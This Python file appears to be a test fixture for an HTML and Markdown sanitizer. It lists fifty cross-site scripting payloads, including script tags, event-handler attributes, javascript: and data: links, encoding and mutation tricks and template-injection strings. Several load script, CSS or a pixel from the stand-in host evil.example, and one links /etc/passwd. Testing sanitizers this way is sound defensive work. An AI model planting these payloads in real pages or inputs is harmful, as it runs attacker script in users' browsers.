"""Fifty texts that want to be more than text. Each would set `window.ran`, open a dialog or ask another server."""

from __future__ import annotations

_RUN = "window.ran=1;alert(1)"

# HTML that runs by itself or when it is touched.
_HTML = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN!r}>",
    f'<img src="https://evil.example/pixel.png" onload="{_RUN}">',
    f'<svg onload="{_RUN}"><circle r=9></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    '<iframe src="javascript:parent.ran=1"></iframe>',
    f'<body onload="{_RUN}"><p onpointerover="{_RUN}">touch me</p>',
    f'<input autofocus onfocus="{_RUN}">',
    f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    f'<video><source onerror="{_RUN}"></video>',
    f'<audio src=x onerror="{_RUN}"></audio>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    '<object data="javascript:window.ran=1"></object>',
    '<embed src="javascript:window.ran=1">',
    '<base href="https://evil.example/"><link rel=stylesheet href=x.css>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.ran=1">',
    f'<form action="javascript:{_RUN}"><button>send</button></form>',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    f'<a href="javascript:{_RUN}">a</a>',
    f'"><img src=x onerror="{_RUN}">',
    f"' onmouseover='{_RUN}' x='",
    f"</p></div></textarea></title><script>{_RUN}</script>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<img src=`x` onerror=`{_RUN}`>",
    f"\x00<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"＜script＞{_RUN}＜/script＞",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
]
# Markdown whose elements or addresses would do it.
_MARKDOWN = [
    f"[a](javascript:{_RUN})",
    f"[a](JaVaScRiPt:{_RUN})",
    f"[a]( \x01javascript:{_RUN})",
    f"[a](java\tscript:{_RUN})",
    f"[a](<java\nscript:{_RUN}>)",
    f"[a](data:text/html,<script>{_RUN}</script>)",
    "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:x) [d](//evil.example) [e](/v1/stats)",
    f'![a](x" onerror="{_RUN}) ![b](https://evil.example/pixel.png)',
    f'<javascript:{_RUN}> <https://a.b/"onclick="{_RUN}>',
    f'https://a.b/"><img src=x onerror={_RUN}>',
    f"[<img src=x onerror={_RUN}>](https://a.b/'onclick='{_RUN})",
    f'```"><script>{_RUN}</script>\n<script>{_RUN}</script>\n```',
    f"``` onclick={_RUN} class=x\ncode\n```",
    f"`<img src=x onerror={_RUN}>` **<svg onload={_RUN}>**",
    f"| <img src=x onerror={_RUN}> | b |\n|---|---|\n| <script>{_RUN}</script> | [a](javascript:{_RUN}) |",
    f"# <script>{_RUN}</script>\n\n> - 1. <img src=x onerror={_RUN}>",
    f"__proto__ constructor hasOwnProperty ```__proto__\n{_RUN}\n```",
    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}} <% {_RUN} %>",
]
TEXTS = [*_HTML, *_MARKDOWN]
